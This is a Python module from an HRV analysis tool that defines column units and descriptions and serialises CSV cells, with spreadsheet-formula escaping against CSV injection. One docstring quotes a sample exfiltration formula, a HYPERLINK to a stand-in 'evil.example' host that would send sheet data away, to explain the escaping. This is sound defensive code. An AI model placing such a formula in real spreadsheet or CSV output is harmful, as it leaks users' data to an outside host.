"""The unit of every column hrvpace writes, spelled once for JSON, CSV, Parquet and the API.

A column's name carries its unit where it has one (``rmssd_ms``, ``lf_ms2``, ``mean_hr_bpm``,
``t_s``); :func:`unit_of` reads it from the name, and :data:`DESCRIPTIONS` says what a column
means where the name cannot (``t_s`` of a window table is the window's *end*). Tables carry
both: a CSV header cell is ``name [unit]`` and a Parquet field has the metadata keys ``unit``
and (where known) ``description``; the names themselves are the same in every output.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = [
    "BEAT_UNITS",
    "DESCRIPTIONS",
    "FORMULA_STARTS",
    "NO_CONTACT_UNITS",
    "UNITLESS",
    "arrow_null_type",
    "contact_code",
    "csv_cell",
    "csv_header",
    "csv_text",
    "spreadsheet_safe",
    "unit_of",
    "units_of",
]

#: Columns whose unit the name does not carry.
UNITLESS: dict[str, str] = {
    "path": "text",
    "error": "text",
    "format": "text",
    "units": "text",
    "read_as": "text",
    "sha256": "text",
    "duplicate_of": "text",
    "correction": "text",
    "frequency_method": "text",
    "segment": "text",
    "idx": "index",
    "n_beats": "count",
    "n_artefacts": "count",
    "n_gaps": "count",
    "cleaned": "bool",
    "ectopy_warning": "bool",
    "ectopy_reason": "text",
    "gap_before": "bool",
    "quality": "fraction",
    "lf_hf": "ratio",
    "coherence_ratio": "ratio",
    "coherence_score": "1",
    "ln_rmssd": "ln(ms)",
    "dfa_alpha1": "1",
    "stress_index": "1",
    "contact": "1 contact/0 none/-1 unknown",
}

#: The stored beats' columns and their units (``hrvpace export``, ``GET /sessions/{id}/beats``).
BEAT_UNITS: dict[str, str] = {
    "idx": "index",
    "t_s": "s",
    "rr_ms": "ms",
    "arrived_at": "unix_s",
    "contact": "1 contact/0 none/-1 unknown",
    "gap_before": "bool",
    "hr_bpm": "1/min",
}

#: Columns of a session's stretches without skin contact (``hrvpace export``,
#: ``GET /sessions/{id}/contact``): :class:`sensors.contact.NoContactStretch`.
NO_CONTACT_UNITS: dict[str, str] = {"start_t_s": "s", "end_t_s": "s", "ended_by": "text"}

#: What a column means, where its name and unit do not say it all.
DESCRIPTIONS: dict[str, str] = {
    "t_s": "end of the window on the recording's clock, seconds since the recording began",
    "path": "the recording's file",
    "error": "why the recording could not be analysed (its other fields empty); empty: analysed",
    "quality": "fraction of intervals hrv.clean labels normal (the correction's, not the beat "
    "detector's quality)",
    "corrected_pct": (
        "share of the intervals the artefact correction changed (removed gaps not counted)"
    ),
    "ectopy_warning": (
        "HRV unreliable: >= 8 % irregular steps, i.e. frequent ectopy or an irregular rhythm "
        "in the analysed series (corrected; raw with --no-clean); empty (null) when not "
        "assessed: fewer than 30 successive differences without a gap, in the recording or "
        "the window"
    ),
    "irregular_steps_pct": (
        "share of successive intervals differing by more than 20 % of their mean"
    ),
    "ectopy_reason": "why ectopy_warning is set (or why it was not assessed)",
    "duration_s": "from the recording's (segment's) start to its last beat, gaps included",
    "analysed_s": "time the analysed intervals cover (their sum): duration_s less gap_s",
    "n_gaps": "gaps in the analysed series (the file's, and pauses the correction removed)",
    "gap_s": "time left out at gaps: not analysed",
    "sha256": "SHA-256 of the input file's bytes (hex): which file exactly was analysed",
    "duplicate_of": "an earlier input of the run with the same bytes (same sha256); empty: none",
    "clock_start_s": (
        "the file's own clock at the recording's start (its first interval's start); hrvpace's "
        "times count from it"
    ),
    "segment_from_s": "the segment's start as asked, s since the recording began (empty: open)",
    "segment_to_s": "the segment's end as asked, s since the recording began (empty: open)",
    "segment_start_s": "start of the segment's first interval, s since the recording began",
    "segment_end_s": "the segment's last beat, s since the recording began",
    "start_t_s": "where the strap lost skin contact, on the beats' timeline (t_s)",
    "end_t_s": (
        "where the stretch without contact ended (see ended_by); empty: it lasted to the end"
    ),
    "ended_by": (
        "contact: the strap said contact came back; beat: the strap dropped during the "
        "stretch, which ends at the next beat with contact (contact 1, or not reported; beats "
        "marked without contact, contact 0, are in the stretch); end: no such beat came after it"
    ),
}

_SUFFIXES: tuple[tuple[str, str], ...] = (
    ("_ms2", "ms^2"),
    ("_ms", "ms"),
    ("_hz", "Hz"),
    ("_bpm", "1/min"),
    ("_pct", "%"),
    ("_nu", "n.u."),
    ("_s", "s"),
    ("_at", "unix_s"),
)


def unit_of(name: str) -> str:
    """The unit of column ``name`` (hrvpace's spelling).

    Examples
    --------
    >>> unit_of("lf_ms2"), unit_of("t_s"), unit_of("quality")
    ('ms^2', 's', 'fraction')
    """
    if name in UNITLESS:
        return UNITLESS[name]
    for suffix, unit in _SUFFIXES:
        if name.endswith(suffix):
            return unit
    return "1"


def units_of(names: Iterable[str]) -> dict[str, str]:
    """``{name: unit_of(name)}`` for every name."""
    return {n: unit_of(n) for n in names}


def csv_header(name: str, unit: str) -> str:
    """A CSV header cell: ``rmssd_ms [ms]``."""
    return f"{name} [{unit}]"


def contact_code(contact: bool | int | None) -> int:
    """A stored skin-contact flag as the tables write it: 1 contact, 0 none, -1 not reported."""
    return -1 if contact is None else int(bool(contact))


#: How a cell a spreadsheet would take for a formula starts (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """``text`` with a ``'`` put before it if it starts as a formula would.

    A CSV cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a CR is run as a formula by
    Excel and LibreOffice (``=HYPERLINK("http://evil.example/?d="&A2)`` sends the sheet's
    data away); the leading ``'`` makes it text, as OWASP's CSV injection guidance advises.
    For text cells only: numbers are written as they are (``-1.5`` stays a number).
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_cell(value: Any) -> str:
    """One CSV cell, the same in every CSV hrvpace writes.

    Missing (``None``, NaN): empty; a bool: ``1``/``0``; a float: ``repr`` (reads back
    exactly); an int: ``str``; a dict or list: compact JSON; anything else (text, a path): its
    ``str`` through :func:`spreadsheet_safe`. numpy scalars as their Python value.
    """
    if hasattr(value, "item") and not isinstance(value, dict | list | str):
        value = value.item()
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(int(value))
    if isinstance(value, float):
        return "" if value != value else repr(value)
    if isinstance(value, dict | list):
        return json.dumps(value, separators=(",", ":"))
    if isinstance(value, int):
        return str(value)
    return spreadsheet_safe(str(value))


def csv_text(names: Sequence[str], units: dict[str, str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV table: the header ``name [unit]`` (:func:`csv_header`), then :func:`csv_cell` rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow([csv_header(n, units[n]) for n in names])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return buf.getvalue()


def arrow_null_type(pa: Any, unit: str) -> Any:
    """The Arrow type of a column of ``unit`` whose values are all missing.

    Arrow infers ``null`` from an all-``None`` column, and Parquet needs a type: it is taken from
    the column's declared unit (``text``: string, ``bool``: bool, else float64), never from the
    data, so that the files of different runs have one schema and concatenate. ``pa`` is the
    ``pyarrow`` module (passed in: this module does not need pyarrow).
    """
    if unit == "text":
        return pa.string()
    if unit == "bool":
        return pa.bool_()
    return pa.float64()
